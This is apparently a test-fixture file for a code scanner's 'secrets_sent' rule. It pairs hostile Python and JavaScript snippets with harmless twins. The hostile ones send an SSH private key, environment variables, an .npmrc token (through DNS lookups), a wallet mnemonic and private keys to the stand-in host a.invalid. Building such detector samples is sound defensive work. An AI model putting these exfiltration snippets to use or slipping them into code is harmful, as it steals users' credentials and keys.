"""Samples and twins of `secrets_sent`: ways out that are handed about, and secrets that reach them in other shapes."""

from inspection.rules.sample import Sample, js, py

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "a helper is given the session": py(
            "import asyncio, aiohttp\nfrom pathlib import Path\nasync def tell(session, data):\n"
            "    await session.post('https://a.invalid', data=data)\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        await tell(session, (Path.home() / '.ssh/id_rsa').read_bytes())\nasyncio.run(main())\n",
            line=4,
        ),
        "the environment deep in an object that becomes text": js(
            "const all = { env: process.env, list: [] };\nconst text = JSON.stringify({ all, more: 1 });\n"
            "fetch('https://a.invalid', { method: 'POST', body: Buffer.from(text).toString('base64') });\n",
        ),
        "names that are looked up hold a token": js(
            "const dns = require('dns'), fs = require('fs'), os = require('os');\n"
            "const text = fs.readFileSync(os.homedir() + '/.npmrc').toString('hex');\n"
            "text.match(/.{1,60}/g).forEach((part) => dns.resolve(`${part}.a.invalid`, () => {}));\n",
        ),
        "a phrase in a header that does not say who asks": js(
            "const seen = [];\nconst check = (text) => {\n  seen.push(text);\n"
            "  fetch('https://a.invalid', { headers: { 'x-referral': text } });\n};\n"
            "exports.restore = (mnemonic) => check(mnemonic);\n",
            line=4,
        ),
        "a wallet's key in an address": js(
            "const bot = 'https://a.invalid/bot1';\n"
            "fetch(`${bot}/send?text=${encodeURIComponent(process.env.PRIVATE_KEY)}`);\n",
        ),
        "a key mailed to somebody who stands here": py(
            "import smtplib\ndef backup(private_key):\n"
            "    smtplib.SMTP('a.invalid').sendmail('a@a.invalid', 'b@a.invalid', private_key)\n",
            line=3,
        ),
        "a key posted to a server": py(
            "import requests\ndef backup(private_key):\n    requests.post('https://a.invalid', json=private_key)\n",
            "review",
            line=3,
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "a helper is given the session, and a report": {
            "app.py": "import asyncio, aiohttp\nfrom pathlib import Path\nasync def tell(session, data):\n"
            "    await session.post('https://a.invalid', data=data)\nasync def main():\n"
            "    async with aiohttp.ClientSession() as session:\n"
            "        await tell(session, Path('report.xml').read_bytes())\nasyncio.run(main())\n"
        },
        "one setting deep in an object that becomes text": {
            "app.js": "const all = { env: process.env.NODE_ENV, list: [] };\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify({ all, more: 1 }) });\n"
        },
        "the server that a file of secrets names is looked up and asked": {
            "app.js": "const dns = require('dns'), fs = require('fs'), os = require('os');\n"
            "const host = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8').match(/registry=(.*)/)[1];\n"
            "dns.lookup(host, () => {});\nfetch(`${host}/left-pad`);\n"
        },
        "an address in a header, and the key of a service where it says who asks": {
            "app.js": "exports.restore = (mnemonic, api) => {\n  const address = toAddress(mnemonic);\n"
            "  fetch(`https://a.invalid/${address}`, { headers: { 'x-for': address, 'x-api-key': api.privateKey } });\n"
            "};\n"
        },
        "an address mailed": {
            "app.py": "import smtplib\ndef backup(private_key):\n    address = to_address(private_key)\n"
            "    smtplib.SMTP('a.invalid').sendmail('a@a.invalid', 'b@a.invalid', address)\n"
        },
    },
}
